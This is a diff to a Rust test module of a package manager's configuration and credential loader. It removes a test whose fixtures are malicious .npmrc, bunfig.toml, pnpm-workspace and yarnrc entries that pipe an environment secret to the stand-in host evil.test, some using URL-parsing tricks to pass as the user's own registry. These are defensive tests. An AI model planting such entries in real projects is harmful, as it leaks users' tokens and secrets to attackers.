@@ -8,15 +8,15 @@ use rusk_base::files;
 mod caches;
 
 /// A project, a home and an environment; the directories are removed when the test ends.
-struct Machine {
+pub(super) struct Machine {
     root: PathBuf,
     environment: BTreeMap<String, String>,
-    flags: Flags,
+    pub(super) flags: Flags,
 }
 
 impl Machine {
     /// `project/…` and `home/…` with their contents.
-    fn new(texts: &[(&str, &str)]) -> Machine {
+    pub(super) fn new(texts: &[(&str, &str)]) -> Machine {
         let root = std::env::temp_dir().join(format!("rusk-configuration-{}", files::unpredictable_name()));
         for dir in ["project", "home", "prefix/etc"] {
             std::fs::create_dir_all(root.join(dir)).expect("a directory");
@@ -29,18 +29,18 @@ impl Machine {
         Machine { root, environment, flags: Flags::default() }
     }
 
-    fn with(mut self, name: &str, value: &str) -> Machine {
+    pub(super) fn with(mut self, name: &str, value: &str) -> Machine {
         self.environment.insert(name.to_owned(), value.to_owned());
         self
     }
 
-    fn write(&self, path: &str, text: &str) {
+    pub(super) fn write(&self, path: &str, text: &str) {
         let path = self.root.join(path);
         std::fs::create_dir_all(path.parent().expect("a path")).expect("a directory");
         std::fs::write(path, text).expect("a file");
     }
 
-    fn load(&self) -> Result<Configuration> {
+    pub(super) fn load(&self) -> Result<Configuration> {
         let project = self.root.join("project");
         let host = HostEnvironment {
             current_dir: project.clone(),
@@ -58,7 +58,7 @@ impl Machine {
         Configuration::load(&project, &host, &self.flags)
     }
 
-    fn loaded(&self) -> Configuration {
+    pub(super) fn loaded(&self) -> Configuration {
         self.load().expect("a configuration")
     }
 }
@@ -81,7 +81,7 @@ fn with(name: &str, value: &str) -> Configuration {
     Machine::new(&[]).with(name, value).loaded()
 }
 
-fn bearer(prefix: &str, token: &str) -> (String, Credential) {
+pub(super) fn bearer(prefix: &str, token: &str) -> (String, Credential) {
     (prefix.to_owned(), Credential::Bearer(token.to_owned()))
 }
 
@@ -151,7 +151,7 @@ fn credentials_come_from_every_source() {
         ("project/bunfig.toml", "[install]\nregistry = { url = \"http://r.test\", token = \"high\" }"),
     ];
     assert_eq!(of(Machine::new(&both).loaded()), [bearer("//r.test/", "high")]);
-    let variables = Machine::new(&[("project/.npmrc", token)]).with("NPM_CONFIG_TOKEN", "top");
+    let variables = Machine::new(&[("home/.npmrc", token)]).with("NPM_CONFIG_TOKEN", "top");
     assert_eq!(of(variables.loaded()), [bearer("//r.test/", "top")]);
 }
 
@@ -443,64 +443,4 @@ fn defaults_of_flags_are_read() {
 fn a_damaged_bunfig_names_its_file() {
     let machine = Machine::new(&[("project/bunfig.toml", "[install")]);
     assert!(machine.load().expect_err("damaged").to_string().contains("project/bunfig.toml"));
-}
-
-#[test]
-fn a_project_sends_no_variable_to_a_registry_of_its_own() {
-    let load = |files: &[(&str, &str)]| Machine::new(files).with("SECRET", "s").load();
-    for (path, text) in [
-        ("project/.npmrc", "//evil.test/:_authToken=${SECRET}"),
-        ("project/.npmrc", "registry=http://evil.test/${SECRET}/"),
-        ("project/.npmrc", "@scope:registry=http://${SECRET}@evil.test/"),
-        ("project/.npmrc", "https-proxy=http://${SECRET}@evil.test"),
-        ("project/bunfig.toml", "[install]\nregistry = { url = \"http://evil.test\", token = \"$SECRET\" }"),
-        ("project/bunfig.toml", "[install.scopes]\ns = \"http://:$SECRET@evil.test\""),
-        ("project/pnpm-workspace.yaml", "registry: http://${SECRET}@evil.test/"),
-        // What another parser of URLs could take for a host of the user's.
-        ("project/.npmrc", "registry=http://evil.test\\\\@mine.test/${SECRET}/"),
-        ("project/.npmrc", "registry=http:/evil.test//mine.test/${SECRET}/"),
-        ("project/.npmrc", "registry=http://mine.test:_${SECRET}@evil.test/"),
-        ("project/.npmrc", "@a:registry=http:evil.test//mine.test/${SECRET}/"),
-        ("project/.npmrc", "proxy=http://mine.test:_${SECRET}@evil.test/"),
-        ("project/.npmrc", "//evil.test/\\\\@mine.test/:_authToken=${SECRET}"),
-        ("project/.yarnrc.yml", "npmRegistryServer: 'http:/evil.test//mine.test/${SECRET}/'"),
-    ] {
-        let yarn = ("project/yarn.lock", "");
-        let load = |files: &[(&str, &str)]| load(&[files, &[yarn]].concat());
-        let mine = ("home/.npmrc", "registry=https://mine.test");
-        assert_eq!(load(&[(path, text), mine]).expect_err(text).code(), "variable-sent", "{text}");
-        let problem = load(&[(path, text)]).expect_err(text);
-        assert_eq!(problem.code(), "variable-sent", "{text}");
-        assert!(
-            problem.message().contains("`evil.test`") && !problem.to_string().contains("//s@"),
-            "{problem}"
-        );
-        let own = "trusted-registries[]=evil.test";
-        assert!(load(&[(path, text), ("home/.npmrc", own)]).is_ok(), "{text}");
-        assert!(load(&[(path, text), ("home/.npmrc", "//evil.test/:_authToken=t")]).is_ok(), "{text}");
-        let allowed = ("home/.config/rusk/trusted-registries", "evil.test SECRET\n");
-        let machine = Machine::new(&[(path, text)]).with("SECRET", "s").with("CI", "true");
-        assert!(machine.load().is_ok(), "{text}");
-        let machine = Machine::new(&[(path, text)]).with("SECRET", "s");
-        machine.write(allowed.0, allowed.1);
-        assert!(machine.load().is_ok(), "{text}");
-        assert!(
-            Machine::new(&[(path, text)]).load().map_or_else(|it| it.code() != "variable-sent", |_| true)
-        );
-    }
-}
-
-#[test]
-fn a_project_may_send_a_variable_to_a_known_registry() {
-    let default = rusk_npm::credential::default_registry();
-    let host = default.split("//").nth(1).expect("a URL");
-    let text = format!("//{host}:_authToken=${{SECRET}}\ncache=${{SECRET}}");
-    let machine = Machine::new(&[("project/.npmrc", &text)]).with("SECRET", "s");
-    assert_eq!(machine.loaded().credentials.len(), 1);
-    let mine = ("home/.npmrc", "registry=https://mine.test");
-    for (scheme, is_sent) in [("https", true), ("http", false)] {
-        let project = format!("registry={scheme}://mine.test/${{SECRET}}/");
-        let machine = Machine::new(&[mine, ("project/.npmrc", &project)]).with("SECRET", "s");
-        assert_eq!(machine.load().is_ok(), is_sent, "{scheme}");
-    }
 }
